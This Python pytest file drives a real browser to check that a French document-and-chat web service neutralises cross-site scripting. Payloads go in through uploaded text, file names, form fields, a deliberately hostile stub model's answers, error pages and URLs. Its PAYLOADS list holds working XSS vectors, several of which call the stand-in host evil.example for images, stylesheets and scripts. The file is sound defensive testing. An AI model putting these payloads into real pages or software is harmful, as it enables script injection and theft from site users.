"""Hostile text by every carrier, in a real browser: no dialog, no script that runs, no request off the host.

The server runs with a language model that is hostile too, over the wire format of OpenAI. `visit` fails a test for a
dialog, a request to another host, and whatever the content policy had to stop.
"""

import re
from urllib.parse import quote

import pytest

from evals.wire import Completions, serving

PAYLOADS = (
    "<script>window.pwned=1</script>",
    '<img src="http://evil.example/a.png" onerror="window.pwned=2">',
    "<svg/onload=alert(3)>",
    "![x](http://evil.example/b.png)",
    "[ici](javascript:alert(4))",
    '"><iframe srcdoc="<script>parent.pwned=5</script>">',
    "'-alert(6)-'",
    "$$\\href{javascript:alert(7)}{x}$$",
    '<a href="http://evil.example" onmouseover=alert(8)>',
    "<style>@import 'http://evil.example/c.css';</style>",
    "</textarea></title><script src=//evil.example/d.js></script>",
    "<img src=x onerror=alert(9)",  # not closed: a filter of whole tags lets it through
)
EVERY = " ".join(PAYLOADS)
TEXT = (
    f"Convention {PAYLOADS[1]}\n\nArticle 1 : Objet {PAYLOADS[2]}\nLa ville prête le kiosque au cirque {EVERY}.\n\n"
    f"Article 2 : Durée {PAYLOADS[5]}\nLe prêt du kiosque dure neuf mois {PAYLOADS[11]}.\n"
)
NAME = "convention <img src=x onerror=alert(1)> \"'.txt"
QUESTION = "Combien de temps dure le prêt du kiosque ?"


SAID = " ".join((PAYLOADS[1], PAYLOADS[4], PAYLOADS[10], PAYLOADS[11]))


class Hostile(Completions):
    """Fails with every payload when it is asked for a failure, else answers."""

    def do_POST(self):
        if self.headers["Authorization"] == "Bearer failing":
            self.send_error(500, "hostile", EVERY)
        else:
            super().do_POST()


def write(messages) -> str:
    """Write true sentences with their passage, and one that is false and full of payloads."""
    prompt = "\n".join(message["content"] for message in messages)
    keys = {
        words: next((found[1] for part in re.split(r"\n\n(?=\[)", prompt) if words in part
                     and (found := re.search(r"\[(\w{4})\]", part))), "")
        for words in ("neuf mois", "au cirque")
    }  # fmt: skip
    month, circus = f"[{keys['neuf mois']}]", f"[{keys['au cirque']}]"
    true = f"Le prêt du kiosque dure neuf mois {month}. La ville prête le kiosque au cirque {circus}. "
    return f"{true}Le prêt dure neuf mois {month}. Il coûte 12 euros {SAID}."


@pytest.fixture(scope="module")
def hostile(new_service):
    with serving(write) as model:
        model.RequestHandlerClass = Hostile
        service = new_service(CONTRAT_LLM="openai:hostile", CONTRAT_LLM_BASE_URL=model.url, OPENAI_API_KEY="none")
        service.start()
        yield service
        service.stop()


@pytest.fixture
def server(hostile):
    """Have `visit` open the pages of the server with the hostile model."""
    return hostile.url


@pytest.fixture
def shelf(visit):
    """Give the address of the hostile document, sent once and described with hostile fields."""
    seen = visit(at="/documents")
    page = seen.page
    page.set_input_files(".depot input", [{"name": NAME, "mimeType": "text/plain", "buffer": TEXT.encode()}])
    page.locator(".recus .trouve a").wait_for()
    address = page.get_attribute(".recus .trouve a", "href").removeprefix(".")
    page.goto(f"{page.url.removesuffix('/documents')}{address}/fiche")
    for field in ("title", "source", "relation_title"):
        page.fill(f"#champ-{field}", f"Kiosque {EVERY}")
    page.select_option("#champ-relation_kind", "completes")
    page.click(".fiche button[type=submit]")
    page.locator(".fiche .dit", has_text="enregistrée").wait_for()
    untouched(seen)
    return address


def untouched(seen) -> None:
    """Give every part of the page the time and the reason to act, then see that none did."""
    page = seen.page
    page.wait_for_timeout(200)
    for element in page.locator("main a, main abbr").all()[:6]:
        element.dispatch_event("mouseover")
    assert page.evaluate("window.pwned") is None
    assert page.locator("main :is(iframe, svg, style, script)").filter(visible=True).count() == 0
    links = page.eval_on_selector_all("a[href]", "links => links.map(link => link.href)")
    foreign = [link for link in links if not link.startswith((seen.page.url[:17], "https://formulaire.defenseurs"))]
    assert foreign == []


def test_in_a_document_its_title_and_its_file_name(visit, shelf):
    for at in ("/documents", shelf, f"{shelf}/fiche"):
        seen = visit(at=at)
        untouched(seen)
        assert "onerror" in seen.page.inner_text("main") or "onerror" in seen.page.input_value("#champ-title")


def test_in_an_answer_of_the_model_in_its_sources_and_in_what_is_kept_of_it(visit, shelf):
    seen = visit()
    page = seen.page
    seen.ask(f"{QUESTION} {EVERY}")
    page.locator("#panneau mark").first.wait_for()
    untouched(seen)
    assert page.locator("#echanges :is(img, iframe), #panneau :is(img, iframe)").count() == 0
    seen.ask(QUESTION)
    answer = page.inner_text("#actuel .reply")
    assert "hostile" in answer, "the model's own answer is what is tried here"
    assert "non étayé" in answer
    page.locator("#panneau a.voisin").first.click()
    page.locator(".voisinage h4").wait_for()
    page.locator("#portee summary").click()
    page.locator(".avis.mal").last.click()
    page.fill("#precisions", EVERY)
    page.click("dialog button.plein")
    page.locator(".acts .dit").wait_for()
    untouched(seen)
    page.reload()
    page.locator(".reply .acts").nth(1).wait_for()
    untouched(seen)
    quality = visit(at="/qualite")
    assert "onerror" in quality.page.inner_text(".avis-recu .detail")
    untouched(quality)


def test_in_an_error_of_the_model(visit, shelf, hostile):
    hostile.stop()
    hostile.settings["OPENAI_API_KEY"] = "failing"
    hostile.start()
    seen = visit()
    seen.ask(QUESTION)
    assert "modèle" in seen.page.inner_text("#actuel .notice")
    assert "Traceback" not in seen.page.inner_text("body")
    untouched(seen)


def test_in_the_name_of_a_refused_file(visit):
    page = (seen := visit(at="/documents")).page
    page.set_input_files(".depot input", [{"name": f"vide {PAYLOADS[11]}.pdf", "mimeType": "a/b", "buffer": b"%PDF-"}])
    page.locator(".recus .refus .trouve li").wait_for()
    assert "vide" in page.inner_text(".recus")
    untouched(seen)


@pytest.mark.parametrize("at", ["/?conversation={}", "/documents/{}", "/{}", "/conversations?search={}", "/qualite/{}"])
def test_in_an_address(visit, at):
    for payload in (PAYLOADS[1], PAYLOADS[10]):
        seen = visit(at=at.format(quote(payload, safe="")))
        seen.page.wait_for_timeout(500)
        assert seen.page.evaluate("window.pwned") is None
        assert seen.page.locator("img[src*='evil']").count() == 0
        seen.faults[:] = [fault for fault in seen.faults if "404" not in fault and "409" not in fault]
